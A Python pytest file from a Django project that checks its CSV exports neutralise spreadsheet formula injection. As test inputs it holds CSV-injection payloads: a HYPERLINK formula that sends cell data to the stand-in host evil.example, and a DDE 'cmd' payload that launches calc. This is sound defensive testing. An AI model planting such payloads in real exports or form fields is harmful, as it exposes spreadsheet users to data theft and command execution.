"""Every CSV export neutralises a cell a spreadsheet would run as a formula (OWASP CSV injection); numbers stay
numbers. One writer serves every export, so a new export cannot forget it."""

import ast
import csv
import io
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from touchstone.conftest import Personas
from touchstone.core.importing import EXPORTERS, export_to_string, spreadsheet_safe
from touchstone.core.models import Office

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (ATTACK, "'" + ATTACK),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Plain text", "Plain text"),
        ("-12.5", "-12.5"),
        ("+1", "+1"),
        (-3, -3),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_quoted_and_numbers_stay_numbers(
    value: object, written: object
) -> None:
    assert spreadsheet_safe(value) == written


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_an_anonymous_survey_comment_reaches_the_staff_export_neutralised(personas: Personas) -> None:
    from touchstone.surveys import services as survey_services
    from touchstone.surveys.tests.factories import published_survey

    survey = published_survey(personas.agency_a)
    # Stored as the form stores it; not through the form, whose spam checks would (rightly) hold back a web address.
    survey_services.record_response(survey=survey, raw={"satisfaction": "5", "comment_service": ATTACK})
    response = personas.client(personas.analyst_a).get(
        reverse("manage:export", args=[personas.agency_a.slug, "survey-responses"])
    )
    cells = [cell for row in rows_of(response.content.decode()) for cell in row]
    assert "'" + ATTACK in cells
    assert ATTACK not in cells


def test_the_offices_export_neutralises_a_formula_in_a_name(personas: Personas) -> None:
    Office.objects.create(agency=personas.agency_a, name="@SUM(1+1)*cmd|' /C calc'!A0", city="-Denver+1")
    text = export_to_string("offices", personas.agency_a)
    cells = [cell for row in rows_of(text) for cell in row]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells and "'-Denver+1" in cells


def test_the_complaints_export_neutralises_a_formula(personas: Personas) -> None:
    from touchstone.complaints.tests.factories import file_case

    file_case(personas, narrative=ATTACK, customer_name="=cmd()")
    text = export_to_string("complaints", personas.agency_a)
    assert not any(cell.startswith("=") for row in rows_of(text) for cell in row)


@pytest.mark.parametrize("kind", sorted(k for k, e in EXPORTERS.items() if e.content_type == "text/csv"))
def test_every_csv_export_kind_writes_through_the_safe_writer(personas: Personas, kind: str) -> None:
    Office.objects.create(agency=personas.agency_a, name=ATTACK)
    text = export_to_string(kind, personas.agency_a)
    assert not any(cell.startswith(("=", "@", "\t", "\r")) for row in rows_of(text) for cell in row)


def test_no_module_writes_csv_without_the_safe_writer() -> None:
    """csv.writer and csv.DictWriter appear only inside the one safe writer."""
    offenders = []
    for path in Path(settings.BASE_DIR, "touchstone").rglob("*.py"):
        if "tests" in path.parts or path.name == "importing.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if (
                isinstance(node, ast.Attribute)
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
                and node.attr in {"writer", "DictWriter"}
            ):
                offenders.append(f"{path}:{node.lineno}")
    assert offenders == []
